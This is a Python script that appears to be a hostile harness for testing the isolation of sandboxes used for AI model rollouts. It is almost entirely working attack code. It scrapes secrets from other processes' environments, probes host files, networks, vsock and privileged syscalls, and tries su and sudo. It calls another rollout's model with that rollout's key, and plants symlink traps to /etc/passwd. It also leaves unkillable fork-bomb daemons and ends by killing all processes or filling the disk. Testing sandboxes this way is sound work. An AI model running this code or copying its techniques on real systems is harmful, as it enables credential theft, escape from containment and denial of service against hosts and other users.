"""A harness that nobody should trust: it tries what it can, writes down what it got, and leaves behind what it can.

Run in a box, with what it looks for, and how it is to end, as JSON in its first argument. What it got is by name; what
it did not get is not mentioned.
"""

import contextlib
import ctypes
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from functools import partial
from typing import Any

WANTED: dict[str, Any] = json.loads(sys.argv[1])
LIBC = ctypes.CDLL(None, use_errno=True)
SYSTEM_CALLS: dict[str, tuple[object, ...]] = {
    "mount": (b"none", b"/tmp", b"tmpfs", 0, None),
    "umount2": (b"/workspace", 2),
    "unshare": (0x10000000,),
    "setns": (0, 0),
    "setuid": (0,),
    "chroot": (b"/",),
    "sethostname": (b"mine", 4),
    "ptrace": (16, 1, None, None),
}
VSOCK = 40


def works(function: Callable[..., object], *args: object) -> bool:
    """Whether something can be done."""
    try:
        function(*args)
    except OSError:
        return False
    return True


def read(path: str) -> bytes:
    """The beginning of a file, nothing of one that cannot be read."""
    try:
        with open(path, "rb") as file:
            return file.read(100_000)
    except OSError:
        return b""


def create(path: str) -> None:
    with open(path, "xb"):
        return


def connect(family: int, address: object) -> None:
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect(address)


def secrets() -> object:
    """The engine's environment, in any process."""
    return [path for path in glob.glob("/proc/[0-9]*/environ") if WANTED["secret"].encode() in read(path)]


def first_process() -> object:
    """Anything of the process that the engine's socket is in."""
    inside = [name for name in ("environ", "mem", "maps", "auxv", "stack") if read(f"/proc/1/{name}")]
    return inside + [name for name in ("fd", "cwd", "root", "map_files") if works(os.listdir, f"/proc/1/{name}")]


def files() -> object:
    """Files of the host and of other boxes."""
    return [path for path in WANTED["files"] if works(os.stat, path)]


def places() -> object:
    """Where it can write beside its own folders."""
    system = ("/", "/etc", "/usr", "/usr/bin", "/dev", "/run", "/proc/sys/kernel", os.path.dirname(sys.executable))
    return [place for place in system if works(create, f"{place}/owned")]


def network() -> object:
    """Services of the host, metadata addresses, and other networks."""
    open_ones = [
        place
        for host, port in WANTED["places"]
        if works(connect, socket.AF_INET6 if ":" in (place := host) else socket.AF_INET, (host, port))
    ]
    return open_ones + [name for name in WANTED["abstract"] if works(connect, socket.AF_UNIX, name)]


def vsock() -> object:
    """The way from a virtual machine to its host, which no network namespace closes."""
    return works(socket.socket, VSOCK, socket.SOCK_STREAM)


def system_calls() -> object:
    """What takes privileges."""
    return [name for name, arguments in SYSTEM_CALLS.items() if getattr(LIBC, name)(*arguments) == 0]


def device() -> object:
    """A disk."""
    return works(os.mknod, "device", 0o060600, os.makedev(254, 0))


def others_rights() -> object:
    """The rights of a program that has more."""
    for path in ("/usr/bin/su", "/usr/bin/sudo"):
        if os.path.exists(path):
            shown = subprocess.run([path, "-c", "id -u"], capture_output=True, text=True, input="", check=False)
            if shown.stdout.strip() == "0":
                return path
    return None


def strangers() -> object:
    """Processes of the host."""
    return [pid for pid in WANTED["pids"] if pid > 10 and works(os.kill, pid, 0)]


def call_model(key: str) -> object:
    """What the model says to whoever has this key."""
    body = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
    headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
    url = os.environ["OPENAI_BASE_URL"] + "/chat/completions"
    with urllib.request.urlopen(urllib.request.Request(url, json.dumps(body).encode(), headers)) as answer:
        return json.load(answer)["choices"][0]["message"]["content"]


ATTEMPTS: dict[str, Callable[[], object]] = {
    "the engine's secrets": secrets,
    "the first process": first_process,
    "files of others": files,
    "places to write to": places,
    "the network": network,
    "the machine's own socket": vsock,
    "privileges": system_calls,
    "a device": device,
    "another's rights": others_rights,
    "strange processes": strangers,
    "the model of another rollout": partial(call_model, WANTED["other"]),
    "its own model": partial(call_model, os.environ["OPENAI_API_KEY"]),
}


def write_down() -> None:
    """Try everything, and write down what came of it."""
    got = {}
    for name, attempt in ATTEMPTS.items():
        with contextlib.suppress(OSError):
            if result := attempt():
                got[name] = result
    with open("got.json", "w") as file:
        json.dump(got, file)


def set_traps() -> None:
    """Have whoever reads and writes in the workspace read and write something else, or wait."""
    traps = {"link": "/etc/passwd", "self": "/proc/self/environ", "zero": "/dev/zero", "up": "../../.."}
    for name, target in traps.items():
        os.symlink(target, name)
    os.mkfifo("pipe")


def leave_daemons() -> None:
    """Leave families behind that ignore signals, fork on and on, and cannot be told by their parents, sessions or
    environments."""
    for ignored in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(ignored, signal.SIG_IGN)
    for leave in (os.setsid, os.setpgrp, lambda: os.fork() and os._exit(0)):
        if os.fork():
            continue
        leave()
        os.environ.clear()
        while True:
            with contextlib.suppress(OSError):
                os.fork()


def end() -> None:
    """End as it was told to."""
    match WANTED["end"]:
        case "kills all":
            os.kill(-1, signal.SIGKILL)
        case "prints for ever":
            while True:
                os.write(1, b"x" * 65536)
        case "waits for ever":
            while True:
                signal.pause()
        case "fills the disk":
            while True:
                with open(f"/tmp/{os.urandom(8).hex()}", "wb") as file:
                    file.write(bytes(1 << 22))


if __name__ == "__main__":
    write_down()
    set_traps()
    leave_daemons()
    if os.path.exists("bell"):
        with open("bell", "w") as bell:
            bell.write("up\n")
    end()
